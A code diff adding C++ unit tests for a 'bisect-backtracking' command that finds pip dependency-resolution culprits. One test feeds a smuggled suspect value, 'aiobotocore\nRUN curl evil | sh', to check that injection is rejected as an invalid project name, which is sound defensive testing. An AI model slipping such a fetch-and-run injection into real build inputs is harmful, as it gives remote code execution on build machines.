@@ -6,6 +6,8 @@
 
 #include <nlohmann/json.hpp>
 
+#include <algorithm>
+
 using namespace breeze;
 using namespace breeze::commands;
 
@@ -176,4 +178,125 @@ TEST_CASE("bisect-backtracking: the report masks tokens and URL userinfo from pr
     CHECK_THAT(breeze.out.str(), !Catch::Contains(token));
   }
   redact::clear_secrets();
+}
+
+TEST_CASE("bisect-backtracking: {requirements...} is one argument per limit, {requirements} one in all",
+          "[unit][bisect]") {
+  const std::vector<std::string> limits{"aiobotocore<=2.5.4", "boto3<=1.28.17"};
+  CHECK(expand_probe_command({"pip", "install", "{requirements...}", "--reqs={requirements}"}, limits) ==
+        std::vector<std::string>{"pip", "install", "aiobotocore<=2.5.4", "boto3<=1.28.17",
+                                 "--reqs=aiobotocore<=2.5.4 boto3<=1.28.17"});
+  CHECK(expand_probe_command({"probe", "{requirements}"}, limits) ==
+        std::vector<std::string>{"probe", "aiobotocore<=2.5.4 boto3<=1.28.17"});
+  CHECK(expand_probe_command({"pip", "{requirements...}"}, {}) == std::vector<std::string>{"pip"});
+}
+
+TEST_CASE("bisect-backtracking: the backtracking pattern matches pip's lines, anywhere in a line",
+          "[unit][bisect]") {
+  auto pattern = compile_backtracking_pattern(k_default_backtracking_pattern);
+  REQUIRE(pattern);
+  REQUIRE(pattern->has_value());
+  const auto& re = **pattern;
+  CHECK(matches_backtracking(re, "INFO: pip is looking at multiple versions of aiobotocore to determine which "
+                                 "version is compatible with other requirements. This could take a while."));
+  CHECK(matches_backtracking(re, "#12 41.27 INFO: pip is looking at multiple versions of botocore to determine"));
+  CHECK(matches_backtracking(re, "INFO: pip is still looking at multiple versions of boto3 to determine"));
+  CHECK_FALSE(matches_backtracking(re, "Collecting aiobotocore==2.6.0"));
+  CHECK_FALSE(matches_backtracking(re, "pip is looking at multiple versions")); // not pip's INFO line
+  CHECK_FALSE(matches_backtracking(re, std::string(5000, 'x') + "INFO: pip is looking at multiple versions of a"));
+  auto off = compile_backtracking_pattern("");
+  REQUIRE(off);
+  CHECK_FALSE(off->has_value());
+  auto bad = compile_backtracking_pattern("(unclosed");
+  REQUIRE_FALSE(bad);
+  CHECK(bad.error().kind == ErrorKind::usage);
+}
+
+TEST_CASE("bisect-backtracking: suspects from a candidates file are PEP 508 names of candidates",
+          "[unit][bisect][safety]") {
+  const std::string candidates = R"("candidates":[{"name":"aiobotocore","pinned":"2.5.4","latest":"2.6.0"},)"
+                                 R"({"name":"Boto3","pinned":"1.28.17","latest":"1.28.25"}])";
+  auto limits = limits_from_candidates_json("{" + candidates + "}");
+  REQUIRE(limits);
+  auto s = suspects_from_candidates_json("{" + candidates + R"(,"suspects":["boto3","aiobotocore","boto3","nope"]})",
+                                         *limits);
+  REQUIRE(s);
+  CHECK(*s == std::vector<std::size_t>{1, 0}); // PEP 503 match, repeats and non-candidates dropped
+  auto none = suspects_from_candidates_json("{" + candidates + "}", *limits);
+  REQUIRE(none);
+  CHECK(none->empty());
+  auto injected =
+      suspects_from_candidates_json("{" + candidates + R"(,"suspects":["aiobotocore\nRUN curl evil | sh"]})", *limits);
+  REQUIRE_FALSE(injected);
+  CHECK(injected.error().message == "suspect 'aiobotocoreRUN curl evil | sh' is not a valid project name (PEP 508)");
+  CHECK_FALSE(suspects_from_candidates_json("{" + candidates + R"(,"suspects":"aiobotocore"})", *limits));
+  CHECK_FALSE(suspects_from_candidates_json("{" + candidates + R"(,"suspects":[7]})", *limits));
+}
+
+TEST_CASE("bisect-backtracking: the top suspect of a candidates file is probed right after the full list",
+          "[unit][bisect]") {
+  files::TempDir dir;
+  test::InProcess breeze;
+  breeze.cwd = dir.path();
+  breeze.env["TMPDIR"] = dir.path().string();
+  breeze.runner.respond = [](const process::ProcessSpec& spec) {
+    process::ProcessResult r;
+    r.exit_code = std::find(spec.argv.begin(), spec.argv.end(), "c<=1") != spec.argv.end() ||
+                          std::find(spec.argv.begin(), spec.argv.end(), "c==1.5") != spec.argv.end()
+                      ? 0
+                      : 1;
+    return r;
+  };
+  test::write_file(dir.path() / "c.json",
+                   R"({"candidates":[{"name":"a","pinned":"1","latest":"2"},{"name":"b","pinned":"2","latest":"3"},)"
+                   R"({"name":"c","pinned":"1","latest":"1.5"}], "suspects": ["c", "a"]})");
+  REQUIRE(breeze.run({"ci", "bisect-backtracking", "--candidates-file", "c.json", "--probe-command",
+                      "pip install {requirements...}", "--probe-timeout", "5", "--output", "json"}) == 0);
+  auto doc = nlohmann::json::parse(breeze.out.str());
+  CHECK(doc["culprits"] == nlohmann::json{"c<=1"});
+  CHECK(doc["probe_count"] == 2);
+  CHECK(doc["found_by_suspect"] == true);
+  CHECK(doc["suspects"] == nlohmann::json{"c", "a"});
+  REQUIRE(breeze.runner.calls.size() == 3);
+  CHECK(breeze.runner.calls[0].argv == std::vector<std::string>{"pip", "install", "a<=1", "b<=2", "c<=1"});
+  CHECK(breeze.runner.calls[1].argv == std::vector<std::string>{"pip", "install", "c<=1"});
+  CHECK(breeze.runner.calls[2].argv == std::vector<std::string>{"pip", "install", "c==1.5"});
+  CHECK(doc["probes"][1]["purpose"] == "suspect");
+  CHECK(doc["probes"][2]["purpose"] == "check");
+}
+
+TEST_CASE("bisect-backtracking: a bad --backtracking-pattern or {requirements...} inside a word is a "
+          "usage error before any probe",
+          "[unit][bisect]") {
+  files::TempDir dir;
+  test::write_file(dir.path() / "c.json", R"({"candidates":[{"name":"a","pinned":"1","latest":"2"}]})");
+  test::InProcess breeze;
+  breeze.cwd = dir.path();
+  const std::vector<std::string> base{"ci", "bisect-backtracking", "--candidates-file", "c.json"};
+  auto with = [&](std::vector<std::string> extra) {
+    auto args = base;
+    args.insert(args.end(), extra.begin(), extra.end());
+    return breeze.run(args);
+  };
+  CHECK(with({"--probe-command", "probe {requirements}", "--backtracking-pattern", "(unclosed"}) == 2);
+  CHECK(with({"--probe-command", "probe --r={requirements...}"}) == 2);
+  CHECK(with({"--probe", "nope"}) == 2);
+  CHECK(breeze.runner.calls.empty());
+}
+
+TEST_CASE("bisect-backtracking: --probe resolve runs the settings' resolve command in the local CI image",
+          "[unit][bisect]") {
+  config::Settings settings;
+  settings.sources_root = "/src/airflow";
+  const auto argv = resolve_probe_argv(settings, "docker", "3.11", "linux/arm64");
+  CHECK(argv == std::vector<std::string>{"docker", "run", "--rm", "--pull", "never", "--platform", "linux/arm64",
+                                         "-v", "/src/airflow:/opt/airflow", "-e",
+                                         "EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS={requirements}", "-e",
+                                         "PYTHON_MAJOR_MINOR_VERSION=3.11", "--entrypoint", "/bin/sh",
+                                         "ghcr.io/apache/airflow/main/ci/python3.11:latest", "-c",
+                                         settings.resolve_command});
+  CHECK_THAT(settings.resolve_command,
+             Catch::Contains("pip install --root-user-action ignore --dry-run --upgrade --upgrade-strategy eager"));
+  CHECK_THAT(settings.resolve_command, Catch::EndsWith("${EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS}"));
+  CHECK(expand_probe_command(argv, {"a<=1", "b<=2"})[10] == "EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=a<=1 b<=2");
 }
